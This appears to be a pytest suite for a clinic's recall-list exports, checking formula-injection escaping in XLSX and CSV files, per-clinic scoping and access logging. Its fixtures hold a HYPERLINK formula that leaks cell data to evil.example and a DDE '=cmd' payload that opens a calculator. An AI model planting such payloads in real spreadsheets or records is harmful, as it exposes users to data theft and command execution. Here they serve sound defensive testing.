"""Exports of the recall lists: real workbooks and CSV files, formula injection escaped, access recorded.

In a workbook text is a text cell holding exactly what was typed, quote-prefixed when it looks like a formula;
only the CSV file, which has no cell types, escapes such text with an apostrophe."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook
from sqlalchemy import select

from inventory.errors import NotFound, ValidationError
from inventory.models import AuditEvent
from inventory.services.permissions import Scope
from recall import exports, services
from tests import recall_helpers as rh
from tests.factories import NOW, patient, reconstitute

LATER = NOW + dt.timedelta(hours=3)
EVIL_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
NASTY = ["+1 555 0100", "-2+3", "@SUM(A1:A9)", "\tcmd", "\rcmd"]
UK_PHONE = "+44 20 7946 0000"
FORMULA_PHONE = "=cmd|' /C calc'!A0"


@pytest.fixture
def case(world, session):
    rh.share_toxins(world)
    vial = reconstitute(world, world.container("botox", lot="EX1"))
    evil = patient(world, "@REF1", name=EVIL_NAME)
    plain = patient(world, "L-2", name="Zoë Brontë")
    far = patient(world, "N-1", clinic=world.other_clinic, name="Ned Ray")
    vial_ny = reconstitute(world, world.container("botox", lot="EX1", location=world.location("Fridge",
                                                                                                 world.other_clinic)))
    rh.give(world, rh.treat(world, evil), vial, "4", area="glabella")
    rh.give(world, rh.treat(world, plain), vial, "6", area="forehead")
    rh.give(world, rh.treat(world, far), vial_ny, "4")
    opened = services.open_recall(session, actor=world.users["safety"], lot_ids=[vial.lot_id], reason="notice 7",
                                  recall_class="II", source="manufacturer", now=NOW)
    services.update_patient(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                            patient_id=evil.id, status="notified", method="phone", note=NASTY[0], now=LATER)
    services.update_patient(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                            patient_id=plain.id, status="unreachable", note=NASTY[1], now=LATER)
    services.update_container(session, actor=world.users["safety"], scope=Scope.everything(), case_id=opened.id,
                              container_id=vial.id, status="destroyed", note=NASTY[2], now=LATER)
    return opened


def export(session, world, case, which, fmt, user="safety"):
    viewer = world.users[user] if isinstance(user, str) else user
    return exports.export(session, viewer=viewer, scope=Scope.for_user(viewer), case_id=case.id, which=which,
                          fmt=fmt, now=LATER)


def workbook(file: exports.ExportFile) -> Workbook:
    return load_workbook(io.BytesIO(file.content))


def assert_text_kept_as_text(book: Workbook) -> None:
    """Every text cell of every sheet is a string cell, quote-prefixed exactly when it looks like a formula;
    none is a formula or an error, and none carries an apostrophe the person did not type."""
    cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type not in ("f", "e") for cell in cells)
    texts = [cell for cell in cells if isinstance(cell.value, str)]
    assert texts and all(cell.data_type == "s" for cell in texts)
    assert all(cell.quotePrefix == cell.value.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in texts)
    assert not any(cell.value.startswith("'") for cell in texts)


def csv_rows(content: bytes) -> list[list[str]]:
    assert content.startswith("\ufeff".encode())  # Excel reads UTF-8 only with the mark
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_patient_list_as_xlsx(world, session, case):
    file = export(session, world, case, "patients", "xlsx")
    assert file.mimetype == exports.XLSX_MIMETYPE and file.filename.startswith(f"recall-{case.id}-patients-")
    book = workbook(file)
    sheet = book.worksheets[0]
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0] == exports.PATIENT_HEADERS
    by_ref = {row[1]: row for row in rows[1:]}
    assert set(by_ref) == {"@REF1", "L-2", "N-1"}
    evil = by_ref["@REF1"]
    assert evil[2] == EVIL_NAME and (evil[4], evil[5], evil[6]) == ("notified", "phone", NASTY[0])
    assert by_ref["L-2"][2] == "Zoë Brontë" and by_ref["L-2"][6] == NASTY[1]
    assert "Botox Cosmetic 100 U lot EX1: 6 U" in by_ref["L-2"][11] and by_ref["L-2"][10] == "Forehead"
    assert by_ref["N-1"][4] == "pending"
    # No cell of the workbook is a formula: text that looks like one is a quote-prefixed string.
    assert_text_kept_as_text(book)
    evil_name = next(cell for cell in sheet["C"] if cell.value == EVIL_NAME)
    assert (evil_name.data_type, evil_name.quotePrefix) == ("s", True)
    assert book["Case"]["B1"].value == case.id


def test_patient_list_as_csv_parses_back(world, session, case):
    file = export(session, world, case, "patients", "csv")
    assert file.mimetype.startswith("text/csv")
    rows = csv_rows(file.content)
    assert tuple(rows[0]) == exports.PATIENT_HEADERS and len(rows) == 4
    by_ref = {row[1]: row for row in rows[1:]}
    assert by_ref["'@REF1"][2] == "'" + EVIL_NAME
    assert by_ref["L-2"][2] == "Zoë Brontë" and by_ref["L-2"][4] == "unreachable"
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row)


def test_container_list_as_xlsx_and_csv(world, session, case):
    book = workbook(export(session, world, case, "containers", "xlsx"))
    rows = list(book.worksheets[0].iter_rows(values_only=True))
    assert rows[0] == exports.CONTAINER_HEADERS
    by_status = {row[7]: row for row in rows[1:]}
    assert set(by_status) == {"destroyed", "open"}
    assert (by_status["destroyed"][5], by_status["destroyed"][8]) == (0, NASTY[2])
    assert_text_kept_as_text(book)
    assert by_status["open"][5] == 96 and by_status["open"][6] == "U"  # New York's vial, 4 U drawn
    rows = csv_rows(export(session, world, case, "containers", "csv").content)
    assert sorted(row[7] for row in rows[1:]) == ["destroyed", "open"]
    assert {row[5] for row in rows[1:]} == {"0", "96"}


def give_phones(session, case, phones: dict[str, str]) -> None:
    view = services.case_view(session, case.id, Scope.everything())
    for line in view.patients:
        line.line.patient.phone = phones[line.line.patient.external_ref]
    session.flush()


def test_notification_list_as_xlsx_keeps_phone_numbers_exactly_as_typed(world, session, case):
    give_phones(session, case, {"@REF1": UK_PHONE, "L-2": FORMULA_PHONE, "N-1": "0161 496 0000"})
    book = workbook(export(session, world, case, "notifications", "xlsx"))
    sheet = book.worksheets[0]
    assert tuple(c.value for c in sheet[1]) == exports.NOTIFICATION_HEADERS
    phone_col = exports.NOTIFICATION_HEADERS.index("Phone") + 1
    phones = {row[1].value: row[phone_col - 1] for row in sheet.iter_rows(min_row=2)}
    uk, formula, plain = phones["@REF1"], phones["L-2"], phones["N-1"]
    assert (uk.value, uk.data_type, uk.quotePrefix) == (UK_PHONE, "s", True)
    assert (formula.value, formula.data_type, formula.quotePrefix) == (FORMULA_PHONE, "s", True)
    assert (plain.value, plain.data_type, plain.quotePrefix) == ("0161 496 0000", "s", False)
    assert_text_kept_as_text(book)


def test_notification_list_as_csv_still_escapes_formula_like_text(world, session, case):
    give_phones(session, case, {"@REF1": UK_PHONE, "L-2": FORMULA_PHONE, "N-1": "0161 496 0000"})
    rows = csv_rows(export(session, world, case, "notifications", "csv").content)
    phone = exports.NOTIFICATION_HEADERS.index("Phone")
    assert {row[1]: row[phone] for row in rows[1:]} == {
        "'@REF1": "'" + UK_PHONE, "L-2": "'" + FORMULA_PHONE, "N-1": "0161 496 0000"}


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@x", "\tx", "\rx", "#N/A", "#DIV/0!", "'kept"])
def test_any_stored_text_is_written_to_the_workbook_as_that_text(world, session, case, text):
    # Set on the row, not through a form, which strips leading blanks: rows stored earlier may hold anything.
    give_phones(session, case, {"@REF1": UK_PHONE, "L-2": "0161 496 0000", "N-1": text})
    book = workbook(export(session, world, case, "notifications", "xlsx"))
    phone = next(row[4] for row in book.worksheets[0].iter_rows(min_row=2) if row[1].value == "N-1")
    assert (phone.value, phone.data_type) == (text, "s")
    assert phone.quotePrefix is text.startswith(("=", "+", "-", "@", "\t", "\r"))


def case_facts(book: Workbook) -> dict[str, object]:
    return {key: value for key, value in book["Case"].iter_rows(values_only=True)}


def test_the_case_sheet_keeps_a_formula_like_reason_as_text_and_shows_no_close_while_open(world, session, case):
    case.reason = "-2 units short, see notice"
    session.flush()
    book = workbook(export(session, world, case, "patients", "xlsx"))
    facts = case_facts(book)
    assert facts["Reason"] == "-2 units short, see notice" and facts["Status"] == "open"
    assert "Closed at (UTC)" not in facts and "Closed by" not in facts
    reason = next(row[1] for row in book["Case"].iter_rows() if row[0].value == "Reason")
    assert (reason.data_type, reason.quotePrefix) == ("s", True)
    assert_text_kept_as_text(book)


def test_the_case_sheet_of_a_closed_case_says_when_and_by_whom(world, session, case):
    lead = world.users["safety"]
    view = services.case_view(session, case.id, Scope.everything())
    for line in view.patients:
        if line.line.status.value == "pending":
            services.update_patient(session, actor=lead, scope=Scope.everything(), case_id=case.id,
                                    patient_id=line.patient.id, status="notified", method="letter", now=LATER)
    for item in view.containers:
        if item.line.status.value == "open":
            services.update_container(session, actor=lead, scope=Scope.everything(), case_id=case.id,
                                      container_id=item.container.id, status="destroyed", now=LATER)
    services.close_case(session, actor=lead, case_id=case.id, now=LATER + dt.timedelta(minutes=5))
    facts = case_facts(workbook(export(session, world, case, "containers", "xlsx")))
    closed_at = (LATER + dt.timedelta(minutes=5)).strftime("%Y-%m-%d %H:%M")
    assert (facts["Status"], facts["Closed at (UTC)"], facts["Closed by"]) == ("closed", closed_at, lead.label)


def test_a_clinic_level_export_holds_only_that_clinics_rows(world, session, case):
    lon_lead = world.lon_safety_lead()
    rows = csv_rows(export(session, world, case, "patients", "csv", user=lon_lead).content)
    assert sorted(row[0] for row in rows[1:]) == ["LON", "LON"]


def test_every_export_is_in_the_access_log(world, session, case):
    for which in ("patients", "containers"):
        for fmt in ("xlsx", "csv"):
            export(session, world, case, which, fmt)
    events = session.scalars(
        select(AuditEvent).where(AuditEvent.action == "patient_data.exported").order_by(AuditEvent.id)).all()
    assert [(e.details["list"], e.details["format"]) for e in events] == [
        ("patients", "xlsx"), ("patients", "csv"), ("containers", "xlsx"), ("containers", "csv")]
    assert all((e.actor_id, e.at, e.object_id) == (world.users["safety"].id, LATER, str(case.id)) for e in events)
    assert len(events[0].details["patient_ids"]) == 3 and events[0].details["rows"] == 3


def test_unknown_lists_formats_and_cases_are_refused(world, session, case):
    with pytest.raises(ValidationError):
        export(session, world, case, "everything", "xlsx")
    with pytest.raises(ValidationError):
        export(session, world, case, "patients", "pdf")
    with pytest.raises(NotFound):
        exports.export(session, viewer=world.users["safety"], scope=Scope.everything(), case_id=999999,
                       which="patients", fmt="csv", now=LATER)


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("Ann", "Ann"), ("", ""), ("a=b", "a=b"), (Decimal("-1"), Decimal("-1")), (3, 3), (None, None),
])
def test_escape_cell(value, expected):
    assert exports.escape_cell(value) == expected
